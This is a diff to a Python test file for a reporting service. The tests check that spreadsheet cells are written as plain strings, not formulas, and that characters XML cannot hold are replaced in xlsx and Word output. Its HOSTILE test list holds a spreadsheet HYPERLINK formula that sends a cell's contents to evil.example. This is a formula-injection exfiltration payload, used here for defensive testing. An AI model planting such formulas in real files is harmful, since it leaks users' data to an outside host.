@@ -4,11 +4,13 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from shared.safecells import csv_bytes, formula_like, formula_refusal, put_row
+from services.reporting.outputs.partydoc import PartyDocument
+from shared.safecells import csv_bytes, formula_like, formula_refusal, put_row, xml_safe
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")',
@@ -63,3 +65,27 @@ def test_xlsx_cells_are_strings_never_formulas_and_numbers_stay_numbers() -> Non
     assert {(row[2].data_type, row[2].value) for row in cells} == {("n", 2.5)}
     assert {(row[3].data_type, row[3].value) for row in cells} == {("s", "-5")}
     assert read.worksheets[0].cell(len(HOSTILE) + 1, 1).data_type == "s"
+
+
+# Texts recorded before input refused them stay in the events (never edited): the documents must
+# still be written.
+NOT_IN_XML = "Mục thử \ufffe\uffff\x01 cuối"
+
+
+def test_text_xml_cannot_hold_is_written_with_replacement_characters() -> None:
+    assert xml_safe(NOT_IN_XML) == "Mục thử \ufffd\ufffd\ufffd cuối"
+    assert xml_safe("Tab\tdòng\nmới 😀") == "Tab\tdòng\nmới 😀"
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    put_row(sheet, 1, [NOT_IN_XML])
+    buffer = io.BytesIO()
+    book.save(buffer)
+    assert load_workbook(buffer).worksheets[0].cell(1, 1).value == xml_safe(NOT_IN_XML)
+
+
+def test_a_word_document_with_such_a_text_is_written() -> None:
+    doc = PartyDocument()
+    doc.text(NOT_IN_XML)
+    written = zipfile.ZipFile(io.BytesIO(doc.save())).read("word/document.xml")
+    assert xml_safe(NOT_IN_XML).encode() in written
